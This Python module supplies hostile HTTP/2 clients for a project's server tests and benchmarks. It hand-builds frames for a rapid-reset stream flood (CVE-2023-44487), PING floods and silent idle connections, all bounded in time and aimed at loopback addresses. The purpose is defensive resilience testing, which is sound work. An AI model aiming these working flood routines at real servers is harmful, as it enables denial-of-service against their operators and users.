"""Hostile clients of the referee, written from the wire alone: raw HTTP/2 frames over a
plain socket (RFC 9113; headers as HPACK literals) for what a gRPC library never sends,
plain sockets for connections that never speak. tests/referee/test_attacks.py and
benchmarks/hostile.py (which loads this file by path) both use them.

The frames are made once and sent as bytes, so that an attack costs its own process
little: what it does to the referee is then what is measured. Each attack is bounded in
time and count and stops by itself; every address is on this machine's loopback (an
attack the referee bans its address for comes from 127.0.0.2 or another address of
127.0.0.0/8, so that the honest clients' 127.0.0.1 is not banned with it).
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 8
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 11: "ENHANCE_YOUR_CALM"}
GRPC_HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/arena.v1.ArenaService/ListBots"),
    (":authority", "referee"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def _literal(name: str, value: str) -> bytes:
    """An HPACK literal header field without indexing, new name (RFC 7541 6.2.2)."""
    out = b"\x00"
    for text in (name.encode(), value.encode()):
        assert len(text) < 127
        out += bytes([len(text)]) + text
    return out


HEADER_BLOCK = b"".join(_literal(n, v) for n, v in GRPC_HEADERS)


def _split(address: str) -> tuple[str, int]:
    host, port = address.rsplit(":", 1)
    return host.strip("[]"), int(port)


class RawHttp2:
    """A client HTTP/2 connection over a plain socket, frames made by hand: it answers
    the server's SETTINGS and PINGs as a client must, counts what comes back, and
    notices a GOAWAY or the connection's end."""

    def __init__(self, address: str, timeout: float = 5.0, source: str | None = None) -> None:
        self.sock = socket.create_connection(
            _split(address), timeout=timeout, source_address=(source, 0) if source else None
        )
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self._buffer = b""
        self.closed = False
        self.goaway: str | None = None  # its error code and debug data
        self.ping_acks = 0
        self.resets = 0  # streams the server reset (REFUSED_STREAM and the like)

    def send(self, data: bytes) -> bool:
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def read(self, timeout: float = 0.0) -> bool:
        """Read what has come (waiting up to ``timeout``); False once the connection
        ended (the server closed it)."""
        self.sock.settimeout(max(timeout, 0.0001))
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    self.closed = True
                    return False
                self._frames(data)
                self.sock.settimeout(0.0001)
        except (TimeoutError, BlockingIOError):
            return True
        except OSError:
            self.closed = True
            return False

    def _frames(self, data: bytes) -> None:
        buffer = self._buffer + data
        replies = []
        at, end = 0, len(buffer)
        while end - at >= 9:  # by offsets: a flood's thousands of frames stay cheap
            length = int.from_bytes(buffer[at : at + 3], "big")
            if end - at < 9 + length:
                break
            kind, flags = buffer[at + 3], buffer[at + 4]
            start, at = at + 9, at + 9 + length
            if kind == PING:
                if flags & ACK:
                    self.ping_acks += 1
                else:
                    replies.append(frame(PING, ACK, 0, buffer[start:at]))
            elif kind == SETTINGS and not flags & ACK:
                replies.append(frame(SETTINGS, ACK, 0))
            elif kind == RST_STREAM:
                self.resets += 1
            elif kind == GOAWAY:
                code = int.from_bytes(buffer[start + 4 : start + 8], "big")
                debug = buffer[start + 8 : at].decode(errors="replace")
                self.goaway = f"{ERRORS.get(code, code)} {debug}".strip()
        self._buffer = buffer[at:]
        if replies:
            self.send(b"".join(replies))

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


@dataclass
class AttackReport:
    """What an attack did and what the referee did to it."""

    sent: int = 0  # streams opened, pings sent, connections opened
    connections: int = 0
    closed_after_s: list[float] = field(default_factory=list)  # per connection cut
    goaways: list[str] = field(default_factory=list)  # their error codes (and debug data)
    acks: int = 0
    resets: int = 0

    def add(self, other: AttackReport) -> None:
        self.sent += other.sent
        self.connections += other.connections
        self.closed_after_s += other.closed_after_s
        self.goaways += other.goaways
        self.acks += other.acks
        self.resets += other.resets


def _until(seconds: float, stop: threading.Event | None) -> Callable[[], bool]:
    deadline = time.monotonic() + seconds
    return lambda: time.monotonic() < deadline and not (stop is not None and stop.is_set())


def rapid_reset(
    address: str,
    seconds: float,
    rate: float = 8300,
    per_write: int = 50,
    stop: threading.Event | None = None,
    source: str | None = None,
) -> AttackReport:
    """Streams opened and reset at once (CVE-2023-44487), ``rate`` a second in writes of
    ``per_write``, for ``seconds`` (or until ``stop``), from the address ``source`` if
    given; a connection the referee closes is replaced by a new one."""
    report = AttackReport()
    going = _until(seconds, stop)
    while going():
        try:
            conn = RawHttp2(address, source=source)
        except OSError:
            time.sleep(0.05)
            continue
        report.connections += 1
        opened = time.monotonic()
        stream = 1
        next_write = opened
        while going() and not conn.closed and conn.goaway is None:
            chunk = []
            for _ in range(per_write):
                chunk.append(frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK))
                chunk.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                stream += 2
            if not conn.send(b"".join(chunk)):
                break
            report.sent += per_write
            next_write += per_write / rate
            conn.read(max(0.0, next_write - time.monotonic()))
        if conn.closed or conn.goaway is not None:
            report.closed_after_s.append(time.monotonic() - opened)
            if conn.goaway is not None:
                report.goaways.append(conn.goaway)
        report.resets += conn.resets
        conn.close()
    return report


def ping_flood(
    address: str, count: int, wait: float = 5.0, source: str | None = None
) -> AttackReport:
    """``count`` PINGs in one burst on a fresh connection (from the address ``source``
    if given), then what comes back until the referee ends the connection (or ``wait``
    seconds)."""
    report = AttackReport(connections=1)
    conn = RawHttp2(address, source=source)
    conn.read(0.1)  # the server's SETTINGS
    start = time.monotonic()
    burst = b"".join(frame(PING, 0, 0, i.to_bytes(8, "big")) for i in range(count))
    if conn.send(burst):
        report.sent = count
    deadline = start + wait
    while time.monotonic() < deadline and conn.read(0.05) and conn.goaway is None:
        pass
    if conn.goaway is not None or conn.closed:
        report.closed_after_s.append(time.monotonic() - start)
    while time.monotonic() < deadline and conn.read(0.05):
        pass  # what follows the GOAWAY, to the connection's end
    report.acks = conn.ping_acks
    if conn.goaway is not None:
        report.goaways.append(conn.goaway)
    conn.close()
    return report


def ping_flood_for(
    address: str,
    seconds: float,
    burst: int = 10_000,
    stop: threading.Event | None = None,
    source: str | None = None,
) -> AttackReport:
    """PING floods of ``burst`` each, one connection after another, for ``seconds`` (or
    until ``stop``), from the address ``source`` if given."""
    total = AttackReport()
    going = _until(seconds, stop)
    while going():
        try:
            total.add(ping_flood(address, burst, wait=2.0, source=source))
        except OSError:
            time.sleep(0.05)
    return total


def silent_connections(address: str, count: int) -> list[socket.socket]:
    """``count`` TCP connections that never send a byte (each may be refused)."""
    out = []
    for _ in range(count):
        try:
            out.append(socket.create_connection(_split(address), timeout=5))
        except OSError:
            continue
    return out


def still_open(sockets: list[socket.socket]) -> int:
    """How many of ``sockets`` the referee has not closed (a closed one reads its end)."""
    alive = 0
    for sock in sockets:
        sock.settimeout(0.0001)
        try:
            while sock.recv(1 << 16):
                pass
        except (TimeoutError, BlockingIOError):
            alive += 1
        except OSError:
            pass
    return alive
